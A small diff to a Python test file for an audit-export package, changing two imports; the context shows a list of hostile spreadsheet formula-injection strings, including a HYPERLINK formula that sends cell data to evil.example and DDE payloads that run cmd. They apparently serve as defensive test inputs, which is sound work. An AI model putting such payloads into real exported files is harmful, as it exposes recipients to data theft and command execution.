@@ -11,7 +11,8 @@ import stat
 import pandas as pd
 import pytest
 
-from inspect_audit import export, privacy
+from inspect_audit._core import export
+from inspect_audit._core import privacy
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
